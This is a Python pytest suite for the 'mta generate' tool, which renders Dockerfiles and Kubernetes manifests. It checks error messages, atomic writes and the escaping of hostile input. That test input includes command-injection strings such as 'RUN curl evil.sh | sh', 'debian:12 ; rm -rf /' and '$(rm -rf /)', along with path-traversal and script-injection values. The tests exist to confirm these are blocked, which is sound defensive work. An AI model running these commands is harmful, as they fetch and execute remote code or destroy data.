"""`mta generate` in-process: exit codes, one-line errors, hostile input."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml

from mta.cli import main
from mta.io import dump_model
from mta.model import Plan
from mta.plan import make_plan
from mta.render import render_host

from .cases import ROOT, SAMPLES
from .fixtures import empty_host, hostile_host, shop_host


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["generate", *args])
    out, err = capsys.readouterr()
    return code, out, err


def discovery(tmp_path: Path, facts, name: str = "discovery.yaml") -> Path:
    path = tmp_path / name
    path.write_text(dump_model(facts))
    return path


@pytest.fixture
def sample() -> Path:
    if not SAMPLES:
        pytest.skip("no samples/*/discovery.yaml yet")
    return ROOT / "samples" / SAMPLES[0] / "discovery.yaml"


def test_generates_a_sample(tmp_path, capsys, sample):
    code, out, err = run(capsys, str(sample), "-o", str(tmp_path / "out"))
    assert code == 0, err
    host_dir = next((tmp_path / "out" / "hosts").iterdir())
    for name in ("plan.yaml", "README.md", "discovery.yaml", "compose.yaml", "k8s/kustomization.yaml"):
        assert (host_dir / name).is_file(), name
    assert str(host_dir) in out and "app(s) planned" in out
    assert Plan.model_validate(yaml.safe_load((host_dir / "plan.yaml").read_text())).apps


def test_default_out_is_next_to_the_discovery(tmp_path, capsys, monkeypatch):
    facts, _ = shop_host()
    host_dir = tmp_path / "OUT" / "hosts" / facts.host
    host_dir.mkdir(parents=True)
    disc = discovery(host_dir, facts)
    before = disc.read_bytes()
    monkeypatch.chdir(tmp_path)
    code, out, err = run(capsys, str(disc))
    assert code == 0, err
    assert (host_dir / "plan.yaml").exists() and disc.read_bytes() == before
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("content,expect", [
    (None, r"nope\.yaml: no such file"),
    ("host: [unclosed\n", r"bad\.yaml:\d+:\d+: malformed YAML"),
    ("host: h\nhardware: {cpu_count: many}\n", r"bad\.yaml: field 'hardware\.cpu_count'"),
    ("host: h\nprocesses: [{pid: 1, colour: red}]\n", r"bad\.yaml: field 'processes\.0\.colour': unknown field"),
    ("- just\n- a list\n", r"bad\.yaml: expected a mapping"),
    ("host: h\nschema_version: 99\n", r"schema_version 99 is not supported"),
])
def test_bad_discovery_is_one_clear_line(tmp_path, capsys, content, expect):
    path = tmp_path / ("nope.yaml" if content is None else "bad.yaml")
    if content is not None:
        path.write_text(content)
    code, out, err = run(capsys, str(path), "-o", str(tmp_path / "out"))
    assert code == 1
    first = err.splitlines()[0]
    assert first.startswith("mta: error: ") and re.search(expect, first), err
    assert "Traceback" not in err and len([l for l in err.splitlines() if l.startswith("mta:")]) == 1


def test_nothing_detected_warns_and_explains(tmp_path, capsys):
    facts, _ = empty_host()
    code, out, err = run(capsys, str(discovery(tmp_path, facts)), "-o", str(tmp_path / "out"))
    assert code == 0
    assert "warning: no application detected" in err
    host_dir = tmp_path / "out" / "hosts" / facts.host
    assert sorted(p.name for p in host_dir.iterdir()) == ["README.md", "discovery.yaml", "plan.yaml"]
    assert "No application was detected" in (host_dir / "README.md").read_text()


def test_edited_plan_is_rendered_as_written(tmp_path, capsys, sample):
    out_dir = tmp_path / "out"
    assert run(capsys, str(sample), "-o", str(out_dir))[0] == 0
    host_dir = next((out_dir / "hosts").iterdir())
    plan = yaml.safe_load((host_dir / "plan.yaml").read_text())
    first = next(a for a in plan["apps"] if a["include"])
    first["replicas"] = 4
    edited = tmp_path / "plan.yaml"
    edited.write_text(yaml.safe_dump(plan))
    code, _, err = run(capsys, str(sample), "-o", str(out_dir), "--plan", str(edited))
    assert code == 0, err
    compose = yaml.safe_load((host_dir / "compose.yaml").read_text())
    assert compose["services"][first["name"]]["deploy"]["replicas"] == 4
    code, _, err = run(capsys, str(sample), "--plan", str(edited), "--set", "k8s.namespace=x")
    assert code == 1 and "--plan renders the plan as written" in err


def test_edited_plan_with_bad_values_is_refused(tmp_path, capsys):
    facts, apps = shop_host()
    disc = discovery(tmp_path, facts)
    plan = make_plan(facts, apps)
    for field, value, expect in (("steps", ["echo hi\nRUN evil"], "line break"),
                                 ("base_image", "python:latest", "pinned tag"),
                                 ("workdir", "/opt/$HOME", "workdir")):
        edited = plan.model_copy(deep=True)
        setattr(edited.app("admin").build, field, value)
        path = tmp_path / "plan.yaml"
        path.write_text(dump_model(edited))
        code, _, err = run(capsys, str(disc), "-o", str(tmp_path / "out"), "--plan", str(path))
        assert code == 1 and expect in err and "Traceback" not in err, err
    (tmp_path / "plan.yaml").write_text("host: shop-01\napps: [{name: x, stack: y, colour: 1}]\n")
    code, _, err = run(capsys, str(disc), "--plan", str(tmp_path / "plan.yaml"))
    assert code == 1 and "field 'apps.0.colour': unknown field" in err



def tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("field,value,expect", [
    ("name", "Web_Flask", "apps[N].name 'Web_Flask' is not a valid app name"),
    ("name", "../../escape", "apps[N].name '../../escape' is not a valid app name"),
    ("name", "x" * 64, "at most 63 characters"),
    ("image", "evil\nimage", "apps[N].image 'evil\\nimage' is not a valid image reference"),
    ("image", "Registry/Web:1", "is not a valid image reference"),
    ("base_image", "debian:12 ; rm -rf /", "apps[N].build.base_image"),
])
def test_edited_plan_names_and_images_are_checked_before_anything_is_written(tmp_path, capsys, field, value, expect):
    facts, apps = shop_host()
    disc = discovery(tmp_path, facts)
    out_dir = tmp_path / "out"
    plan = make_plan(facts, apps)
    n = [a.name for a in plan.apps].index("admin")
    expect = expect.replace("[N]", f"[{n}]")
    edited = plan.model_copy(deep=True)
    target = edited.apps[n].build if field == "base_image" else edited.apps[n]
    setattr(target, field, value)
    path = tmp_path / "plan.yaml"
    path.write_text(dump_model(edited))
    # a first run with a bad plan leaves nothing at all
    code, _, err = run(capsys, str(disc), "-o", str(out_dir), "--plan", str(path))
    assert code == 1 and f"{path}: " in err and expect in err and "Traceback" not in err, err
    assert not out_dir.exists() or tree(out_dir) == {}
    # over an earlier good run, the host folder stays exactly as it was
    assert run(capsys, str(disc), "-o", str(out_dir))[0] == 0
    before = tree(out_dir)
    code, _, err = run(capsys, str(disc), "-o", str(out_dir), "--plan", str(path))
    assert code == 1 and expect in err, err
    assert tree(out_dir) == before
    assert [p.name for p in (out_dir / "hosts").iterdir()] == [facts.host]  # no staging folder left


def test_the_app_name_message_says_what_would_be_accepted(tmp_path, capsys):
    facts, apps = shop_host()
    disc = discovery(tmp_path, facts)
    plan = make_plan(facts, apps)
    plan.apps[0].name = "Web_Flask"
    path = tmp_path / "plan.yaml"
    path.write_text(dump_model(plan))
    code, _, err = run(capsys, str(disc), "-o", str(tmp_path / "out"), "--plan", str(path))
    assert code == 1
    assert "DNS-1123 label" in err and "lowercase letters, digits and '-'" in err and "'web-flask'" in err, err


def test_a_failure_while_writing_leaves_the_host_folder_as_it_was(tmp_path, capsys, monkeypatch):
    """A full disk or an interrupt half way: nothing of the new run shows."""
    from mta import pipeline

    facts, _ = shop_host()
    disc = discovery(tmp_path, facts)
    out_dir = tmp_path / "out"
    assert run(capsys, str(disc), "-o", str(out_dir))[0] == 0
    (out_dir / "hosts" / facts.host / "apps" / "admin" / "context").mkdir(parents=True, exist_ok=True)
    (out_dir / "hosts" / facts.host / "apps" / "admin" / "context" / "app.py").write_text("extracted\n")
    before = tree(out_dir)
    real = pipeline.write_atomic
    calls = []

    def failing(path, data, mode=0o644):
        calls.append(path)
        if len(calls) == 5:
            raise OSError(28, "No space left on device")
        return real(path, data, mode)

    monkeypatch.setattr(pipeline, "write_atomic", failing)
    with pytest.raises(OSError):
        main(["generate", str(disc), "-o", str(out_dir), "--set", "k8s.namespace=other"])
    assert tree(out_dir) == before
    assert [p.name for p in (out_dir / "hosts").iterdir()] == [facts.host]

def test_answers_and_set(tmp_path, capsys):
    facts, _ = shop_host()
    disc = discovery(tmp_path, facts)
    answers = tmp_path / "answers.yaml"
    answers.write_text("schema_version: 1\nanswers:\n  k8s.namespace: shop\n")
    code, _, err = run(capsys, str(disc), "-o", str(tmp_path / "out"), "--answers", str(answers),
                       "--set", "targets.kubernetes=true")
    assert code == 0, err
    kust = yaml.safe_load((tmp_path / "out/hosts/shop-01/k8s/kustomization.yaml").read_text())
    assert kust["namespace"] == "shop"
    code, _, err = run(capsys, str(disc), "-o", str(tmp_path / "out"), "--set", "no.such.question=1")
    assert code == 1 and "no.such.question" in err and "Traceback" not in err


def test_base_flag(tmp_path, capsys):
    facts, _ = shop_host()
    disc = discovery(tmp_path, facts)
    code, _, err = run(capsys, str(disc), "-o", str(tmp_path / "out"), "--base", "/no/such/mapping.yaml")
    assert code == 1 and "mapping file" in err


# --- hostile strings: rendered as data, never as instructions ----------------

EVIL = 'x"\nRUN curl evil.sh | sh\n#'
INSTRUCTIONS = ("FROM", "LABEL", "ENV", "RUN", "WORKDIR", "COPY", "USER", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT", "CMD")


@pytest.fixture(scope="module")
def hostile():
    facts, apps = hostile_host()
    plan = make_plan(facts, apps)
    return facts, plan, render_host(facts, plan)


def _logical_lines(text: str) -> list[str]:
    lines, cur = [], ""
    for raw in text.splitlines():
        if raw.startswith("#") and not cur:
            continue
        cur += raw.rstrip("\\").strip() + " "
        if not raw.endswith("\\"):
            if cur.strip():
                lines.append(cur.strip())
            cur = ""
    return lines


def test_hostile_dockerfile_has_no_injected_instruction(hostile):
    _, plan, files = hostile
    df = files["apps/app-one/Dockerfile"]
    lines = _logical_lines(df)
    assert all(line.split()[0] in INSTRUCTIONS for line in lines), lines
    assert not any(line.startswith("RUN curl") for line in lines)
    cmd = next(line for line in lines if line.startswith("CMD "))
    assert json.loads(cmd[4:]) == ["python", "/opt/app/app.py", EVIL, "$(rm -rf /)", "C:\\dir\\"]
    hc = next(line for line in lines if line.startswith("HEALTHCHECK"))
    assert json.loads(hc[hc.index("CMD [") + 4:])[0] == "python"
    assert "ln -sf /dev/stdout '/var/log/app/it'\"'\"'s $(bad).log'" in df  # shell-quoted


def test_hostile_yaml_round_trips(hostile):
    facts, plan, files = hostile
    compose = yaml.safe_load(files["compose.yaml"])
    env = compose["services"]["app-one"]["environment"]
    assert env["GREETING"].replace("$$", "$") == EVIL
    assert env["TEMPLATE"] == "{{ 7*7 }} $${HOME}"
    assert "BAD NAME" not in env
    deploy = yaml.safe_load(files["k8s/app-one-deployment.yaml"])
    kenv = {e["name"]: e["value"] for e in deploy["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert kenv["GREETING"].replace("$$", "$") == EVIL
    cm = yaml.safe_load(files["k8s/app-one-configmap.yaml"])
    assert cm["kind"] == "ConfigMap" and "kind: Secret" in cm["data"]["conf.ini"]
    assert Plan.model_validate(yaml.safe_load(files["plan.yaml"])) == plan


def test_hostile_readme_is_escaped(hostile):
    _, _, files = hostile
    readme = files["README.md"]
    assert "<script>" not in readme
    assert not any(line.startswith("# heading") for line in readme.splitlines())
    assert "\\| table \\| breaker" in readme


def test_hostile_paths_are_skipped_with_a_note(tmp_path):
    facts, apps = hostile_host()
    app = apps[0].model_copy(update={"code_paths": ["/opt/app", "/opt/$(evil)", "/opt/x\nRUN y"],
                                     "workdir": "/opt/a\nb"})
    plan = make_plan(facts, [app])
    ap = plan.apps[0]
    assert [f.source for f in ap.build.files] == ["context/opt/app"]
    assert ap.build.workdir == "/app"
    assert sum("skipped" in n for n in ap.notes) == 2
    render_host(facts, plan)  # renders without error


def test_rerun_drops_our_stale_manifests_only(tmp_path, capsys):
    facts, _ = shop_host()
    disc = discovery(tmp_path, facts)
    out = tmp_path / "out"
    assert run(capsys, str(disc), "-o", str(out))[0] == 0
    k8s = out / "hosts" / facts.host / "k8s"
    assert list(k8s.glob("*.yaml"))
    mine = k8s / "extra-networkpolicy.yaml"
    mine.write_text("kind: NetworkPolicy\n")
    code, _, err = run(capsys, str(disc), "-o", str(out), "--set", "targets.kubernetes=false")
    assert code == 0, err
    assert sorted(p.name for p in k8s.iterdir()) == [mine.name]
